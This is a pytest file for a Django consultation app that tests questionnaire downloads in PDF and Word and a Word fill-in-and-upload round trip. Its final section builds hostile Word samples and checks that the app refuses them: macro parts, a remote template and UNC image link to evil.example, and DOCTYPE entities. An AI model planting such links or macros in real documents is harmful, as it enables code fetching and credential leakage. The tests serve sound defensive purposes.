"""Documents for national consultation: the blank questionnaire (PDF and Word, English and French), and the Word
round trip: download the reply as a Word form, fill it in, upload it back, and get the spreadsheet's preview, row
errors and conflict handling; hostile Word files are refused with a clear 400."""

from __future__ import annotations

import io

import pypdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation

from consultation.loader import background_paper_load
from consultation.models import Answer, Consultation, Field, Item, Response
from consultation.services.answers import answer_save, response_get_or_create
from consultation.services.offline import ImportRefused, docx_import_preview, offline_import_apply
from tests import factories as f
from tests.consultation.docx_world import answer_cell, open_docx, read_part, replace_part, tick, to_bytes, write
from tests.consultation.offline_world import all_types_item

pytestmark = pytest.mark.django_db


def _flat(text: str) -> str:
    return " ".join(text.split())


# --- The blank questionnaire ---------------------------------------------------------------------------------------


@pytest.fixture
def paper(client):
    """The 2024 consultation, open, and a French delegation member signed in."""
    background_paper_load()
    consultation = Consultation.objects.get()
    consultation.status = "open"
    consultation.save()
    member = f.delegate(f.party("FR"), role="member", email="member@fr.example")
    client.force_login(member)
    return consultation


@pytest.mark.parametrize("language", ["en", "fr"])
def test_the_blank_questionnaire_pdf_holds_every_question_in_full_in_its_language(client, paper, language):
    url = reverse("offline:blank_pdf", kwargs={"slug": paper.slug, "language": language})

    download = client.get(url)

    assert download.status_code == 200
    assert download["Content-Type"] == "application/pdf"
    assert download["Content-Disposition"] == f'attachment; filename="questionnaire-{paper.slug}-{language}.pdf"'
    reader = pypdf.PdfReader(io.BytesIO(download.content))
    text = _flat(" ".join(page.extract_text() for page in reader.pages))
    items = list(Item.objects.filter(consultation=paper))
    assert len(items) == 23
    other = "fr" if language == "en" else "en"
    for item in items:
        assert _flat(getattr(item, f"text_{language}")) in text, item.code
        assert _flat(getattr(item, f"text_{other}"))[:60] not in text, item.code
    assert ("Blank questionnaire for national consultation" if language == "en" else "Questionnaire vierge") in text
    assert "France" not in text  # blank: no Party named


@pytest.mark.parametrize("language", ["en", "fr"])
def test_the_blank_questionnaire_docx_is_a4_with_every_question_and_its_boxes(client, paper, language):
    url = reverse("offline:blank_docx", kwargs={"slug": paper.slug, "language": language})

    download = client.get(url)

    assert download.status_code == 200
    document = open_docx(download.content)
    section = document.sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)
    body = _flat("\n".join(paragraph.text for paragraph in document.paragraphs))
    headings = [p.text for p in document.paragraphs if p.style.name == "Heading 2"]
    items = list(Item.objects.filter(consultation=paper).order_by("theme__order", "order"))
    assert sorted(headings) == sorted(item.code for item in items)
    for item in items:
        assert _flat(getattr(item, f"text_{language}")) in body, item.code
    first = Field.objects.filter(item__consultation=paper, type="single_choice").order_by("item__code").first()
    box = answer_cell(document, first.item.code, first.key)
    labels = [getattr(option, f"label_{language}") for option in first.options.order_by("order")]
    assert [p.text for p in box.paragraphs] == [f"☐ {label}" for label in labels]
    assert document.core_properties.identifier == f"lanzarote-docx-1|{paper.slug}|"


def test_an_unknown_language_is_404(client, paper):
    assert client.get(reverse("offline:blank_pdf", kwargs={"slug": paper.slug, "language": "de"})).status_code == 404


# --- The Word round trip -------------------------------------------------------------------------------------------


@pytest.fixture
def reply(world):
    world.tech = all_types_item(world.consultation)
    response = response_get_or_create(consultation=world.consultation, party=world.party_a)
    answer_save(
        response=response,
        item=world.items[0],
        data={"position": "yes", "explanation": "Criminal Code, art. 227-23."},
        base_version=0,
        user=world.member_a,
    )
    answer_save(
        response=response,
        item=world.tech,
        data={
            "position": "partially",
            "measures": ["law"],
            "priorities": ["prevention", "detection", "prosecution"],
            "cases": "12",
            "references": [{"instrument": "Criminal Code", "provision": "Art. 227-23", "url": ""}],
        },
        base_version=0,
        user=world.member_a,
    )
    return response


def _download(client, world) -> bytes:
    client.force_login(world.member_a)
    answer = client.get(reverse("offline:questionnaire_docx", kwargs={"slug": world.consultation.slug}))
    assert answer.status_code == 200
    return answer.content


def _upload(client, world, content: bytes, name: str = "reply.docx"):
    upload = SimpleUploadedFile(name, content, content_type="application/octet-stream")
    return client.post(reverse("offline:xlsx_import", kwargs={"slug": world.consultation.slug}), {"workbook": upload})


def test_download_edit_in_word_upload_preview_import_gives_exactly_the_new_answers(client, world, reply):
    document = open_docx(_download(client, world))
    write(answer_cell(document, "GENAI-01", "explanation"), "Article 227-23 amended in 2024.", "See the annex.")
    tick(answer_cell(document, "ROBOT-01", "position"), "No")
    tick(answer_cell(document, "TECH-01", "measures"), "Training")
    write(answer_cell(document, "TECH-01", "priorities"), "2. Prevention", "1. Detection", "3. Prosecution")
    write(answer_cell(document, "TECH-01", "cases"), "15")
    write(
        answer_cell(document, "TECH-01", "references"),
        "Criminal Code | Art. 227-23",
        "Law 2024-1 | Art. 3 | https://www.legifrance.gouv.fr/",
    )

    uploaded = _upload(client, world, to_bytes(document))
    assert uploaded.status_code == 302
    preview_page = client.get(uploaded["Location"])
    html = preview_page.content.decode()
    assert "Article 227-23 amended in 2024." in html
    assert "Changed online since your download" not in html
    confirm = client.post(uploaded["Location"] + "confirm/", {"action": "confirm"})
    assert confirm.status_code == 302

    data = {a.item.code: a.data for a in Answer.objects.filter(response=reply).select_related("item")}
    assert data["GENAI-01"] == {"position": "yes", "explanation": "Article 227-23 amended in 2024.\nSee the annex."}
    assert data["ROBOT-01"] == {"position": "no"}
    assert data["TECH-01"] == {
        "position": "partially",
        "measures": ["law", "training"],
        "priorities": ["detection", "prevention", "prosecution"],
        "cases": "15",
        "references": [
            {"instrument": "Criminal Code", "provision": "Art. 227-23", "url": ""},
            {"instrument": "Law 2024-1", "provision": "Art. 3", "url": "https://www.legifrance.gouv.fr/"},
        ],
    }


def test_an_untouched_form_changes_nothing(client, world, reply):
    content = _download(client, world)
    preview = docx_import_preview(response=reply, content=content, filename="reply.docx")
    assert (preview.errors, preview.changes, preview.rows_read) == ([], [], 11)


def test_an_answer_changed_online_since_the_download_is_a_conflict(client, world, reply):
    document = open_docx(_download(client, world))
    write(answer_cell(document, "GENAI-01", "explanation"), "Ministry of Justice text.")
    answer_save(
        response=reply,
        item=world.items[0],
        data={"position": "yes", "explanation": "Typed online meanwhile."},
        base_version=1,
        user=world.head_a,
    )

    preview = docx_import_preview(response=reply, content=to_bytes(document), filename="reply.docx")

    assert [(c.item_code, c.file_version, c.online_version) for c in preview.conflicts] == [("GENAI-01", 1, 2)]
    offline_import_apply(response=reply, preview=preview, take_file=set(), user=world.member_a)
    assert Answer.objects.get(response=reply, item=world.items[0]).data["explanation"] == "Typed online meanwhile."


def test_problems_are_named_by_answer_box_item_and_field(client, world, reply):
    document = open_docx(_download(client, world))
    tick(answer_cell(document, "ROBOT-01", "position"), "Yes")
    tick(answer_cell(document, "ROBOT-01", "position"), "No")
    write(answer_cell(document, "TECH-01", "cases"), "many")
    write(answer_cell(document, "TECH-01", "priorities"), "1. Prevention", "1. Detection", "3. Prosecution")

    preview = docx_import_preview(response=reply, content=to_bytes(document), filename="reply.docx")

    assert [(e.row, e.column, e.message) for e in preview.errors] == [
        (3, "ROBOT-01 – Position", "Only one box may be ticked for “Position”; 2 are."),
        (7, "TECH-01 – Priorities", "Number every option of “Priorities” once, from 1 to 3."),
        (9, "TECH-01 – Cases recorded in 2023", "“many” is not a number."),
    ]
    client.force_login(world.member_a)
    uploaded = _upload(client, world, to_bytes(document))
    html = client.get(uploaded["Location"]).content.decode()
    assert "Answer box" in html
    assert "Correct it in Word and upload it again." in html


def test_the_blank_form_filled_in_by_a_ministry_imports_into_the_reply(client, world, reply):
    client.force_login(world.member_a)
    with translation.override("fr"):
        blank = client.get(reverse("offline:blank_docx", kwargs={"slug": world.consultation.slug, "language": "fr"}))
    document = open_docx(blank.content)
    tick(answer_cell(document, "ROBOT-01", "position"), "Partiellement")
    write(answer_cell(document, "ROBOT-01", "explanation"), "Projet de loi n° 1234.")

    preview = docx_import_preview(response=reply, content=to_bytes(document), filename="ministere.docx")

    assert preview.errors == []
    assert [(c.item_code, c.conflict) for c in preview.changes] == [("ROBOT-01", False)]
    assert preview.changes[0].data == {"position": "partially", "explanation": "Projet de loi n° 1234."}


# --- Hostile Word files --------------------------------------------------------------------------------------------

CONTENT_TYPES = "[Content_Types].xml"
RELS = "word/_rels/document.xml.rels"


def _with_relationship(content: bytes, relationship: bytes) -> bytes:
    rels = read_part(content, RELS)
    return replace_part(content, RELS, rels.replace(b"</Relationships>", relationship + b"</Relationships>"))


HOSTILE = {
    "macro content type": (
        lambda c: replace_part(
            c,
            CONTENT_TYPES,
            read_part(c, CONTENT_TYPES).replace(
                b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
            ),
        ),
        "The document contains macros",
    ),
    "vbaProject part": (lambda c: replace_part(c, "word/vbaProject.bin", b"\x00" * 64), "contains macros"),
    "remote template": (
        lambda c: _with_relationship(
            c,
            b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
        ),
        "links to external content (attachedTemplate, in word/_rels/document.xml.rels)",
    ),
    "remote image": (
        lambda c: _with_relationship(
            c,
            b"<Relationship Id='rIdY' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
            b"image' Target='\\\\evil.example\\share\\x.png' TargetMode='External'/>",
        ),
        "links to external content (image,",
    ),
    "doctype": (
        lambda c: replace_part(
            c,
            "word/document.xml",
            b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "e">]>' + read_part(c, "word/document.xml")[38:],
        ),
        "declares a DOCTYPE or entities",
    ),
    "malformed xml": (
        lambda c: replace_part(c, "word/document.xml", read_part(c, "word/document.xml")[:-40]),
        "The document could not be read (XMLSyntaxError)",
    ),
    "not a zip": (lambda c: b"PK\x03\x04 this is not a zip" * 10, "The file is not a Word document."),
    "old .doc": (lambda c: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500, "old Word 97-2003 format"),
}


@pytest.mark.parametrize("case", list(HOSTILE))
def test_a_hostile_word_file_is_refused_with_a_clear_400_and_nothing_written(client, world, reply, case):
    content = _download(client, world)
    breaker, message = HOSTILE[case]
    before = {a.pk: a.version for a in Answer.objects.filter(response=reply)}

    answer = _upload(client, world, breaker(content), name="reply.docx")

    assert answer.status_code == 400
    assert message in answer.content.decode().replace("&#x27;", "'").replace("&quot;", '"')
    assert {a.pk: a.version for a in Answer.objects.filter(response=reply)} == before


def test_a_docm_file_name_is_refused_before_reading(reply):
    with pytest.raises(ImportRefused, match="contains macros"):
        docx_import_preview(response=reply, content=b"PK\x03\x04", filename="reply.docm")


def test_a_typed_web_address_hyperlink_is_accepted(client, world, reply):
    content = _with_relationship(
        _download(client, world),
        b'<Relationship Id="rIdH" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'hyperlink" Target="https://www.coe.int/" TargetMode="External"/>',
    )
    preview = docx_import_preview(response=reply, content=content, filename="reply.docx")
    assert preview.errors == []


def test_an_oversized_or_overfull_word_file_is_refused(client, world, reply, settings):
    content = _download(client, world)
    settings.IMPORT_MAX_BYTES = len(content) - 1
    with pytest.raises(ImportRefused, match="the limit is"):
        docx_import_preview(response=reply, content=content, filename="reply.docx")
    settings.IMPORT_MAX_BYTES = 5 * 1024 * 1024
    settings.IMPORT_MAX_ROWS = 0  # at most (0 + 1) x 16 = 16 table cells; the form has 22
    with pytest.raises(ImportRefused, match="over 16 table cells or paragraphs"):
        docx_import_preview(response=reply, content=content, filename="reply.docx")
    assert Response.objects.filter(pk=reply.pk).exists()
